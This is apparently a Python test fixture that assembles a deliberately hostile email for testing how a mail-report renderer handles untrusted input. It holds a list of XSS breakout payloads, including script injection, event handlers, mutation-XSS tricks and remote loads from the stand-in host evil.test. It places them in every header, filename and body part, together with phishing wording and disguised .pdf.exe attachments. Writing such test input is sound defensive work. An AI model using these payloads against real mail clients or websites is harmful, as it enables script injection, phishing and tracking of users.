"""A mail that tries to break out of the report in every place that a sender can fill."""

import io
import zipfile
from email.header import Header

BREAKOUTS = [
    '</title></style></bdi></dd></td></script><script>document.title="OWNED";document.documentElement.id="OWNED"</script>',
    '"><img src=http://evil.test/i.png onerror="document.title=\'OWNED\'"><svg onload="document.title=\'OWNED\'">',
    "<iframe srcdoc=\"<script>parent.document.title='OWNED'</script>\"></iframe><object data=http://evil.test/o></object>",
    '<style>@import "http://evil.test/s.css";*{background:url(http://evil.test/b)!important;display:none!important}</style>',
    '<link rel=stylesheet href=http://evil.test/l.css><meta http-equiv=refresh content="0;url=http://evil.test/r">',
    '<a href="javascript:document.title=\'OWNED\'" autofocus onfocus=document.title="OWNED" tabindex=1>x</a>',
    "<form action=http://evil.test/f><input name=p type=password autofocus onfocus=alert(1)></form><base href=//e>",
    "data:text/html,<script>document.title='OWNED'</script> &lt;script&gt;alert(1)&lt;/script&gt; \x00\x1b[2J\u202e",
    "--><!--[if mso]><script>document.title='OWNED'</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=document.title='OWNED'><video src=http://evil.test/v>",
]
ALL = " ".join(BREAKOUTS)
_B = "=_edge"


def _word(text: str) -> str:
    return Header(text.replace("\x00", ""), "utf-8", maxlinelen=10_000).encode()


def _part(headers: list[str], body: bytes) -> bytes:
    lines = [f"--{_B}", *headers, "", ""]
    return "\r\n".join(lines).encode("utf-8", "replace") + body + b"\r\n"


def _zip() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for number, text in enumerate(BREAKOUTS):
            archive.writestr(f"{number}{text[:60].replace(chr(0), '')}.exe", b"MZ\x90\x00")
    return stream.getvalue()


def hostile_mail() -> bytes:
    """Return the bytes of the message."""
    name = ALL.replace('"', "'").replace("\x00", "")
    html = (
        f"<p>Your account will be suspended within 24 hours. {ALL} Please confirm your password.</p>"
        f'<p style="display:none">{"hidden words of the forest " * 20}&lt;script&gt;document.title=1&lt;/script&gt;</p>'
        f'<a href="http://192.0.2.7/{name}">https://bank.example/{BREAKOUTS[0]}</a>'
        f'<img src="http://evil.test/pixel.gif" alt="{name}">'
        "<table>" + "<tr><td>x</td></tr>" * 4_000 + "</table>"
    ).encode("utf-8", "replace")
    inner = f"From: {_word(BREAKOUTS[1])} <a@imakire.test>\r\nSubject: {_word(ALL)}\r\n\r\nwithin 24 hours\r\n"
    head = [
        f"Received: from {ALL} (evil.test [192.0.2.9]) by mx.example with ESMTP id 1; Sun, 22 Nov 2026 09:00:00 +0900",
        f"Authentication-Results: {BREAKOUTS[0]}; spf=pass",
        f"From: {_word('Aozora Bank ' + BREAKOUTS[0])} <a@imakire.test>",
        f"Reply-To: {_word(BREAKOUTS[1])} <\"<script>document.title='OWNED'</script>\"@evil.test>",
        f"To: {_word(BREAKOUTS[2])} <b@imakiire.test>",
        f"Subject: {_word('Urgent: act now ' + ALL)}",
        f"Message-ID: <{BREAKOUTS[0]}@x>",
        "X-<script>document.title='OWNED'</script>: x",
        f"X-Mailer: {BREAKOUTS[3]}",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{_B}"',
    ]
    raw = "\r\n".join(head).replace("\x00", "").replace("\x1b", "").encode("utf-8", "replace") + b"\r\n\r\n"
    raw += _part(["Content-Type: text/plain; charset=utf-8"], f"Act now within 24 hours! {ALL}".encode())
    raw += _part(["Content-Type: text/html; charset=utf-8"], html)
    for text in BREAKOUTS:
        disposition = f'Content-Disposition: attachment; filename="{_word(text + ".pdf.exe")}"'
        raw += _part(["Content-Type: application/octet-stream", disposition], b"MZ\x90\x00")
    raw += _part([f'Content-Type: application/zip; name="{_word(name)}.zip"'], _zip())
    raw += _part(["Content-Type: message/rfc822"], inner.encode())
    return raw + f"--{_B}--\r\n".encode()
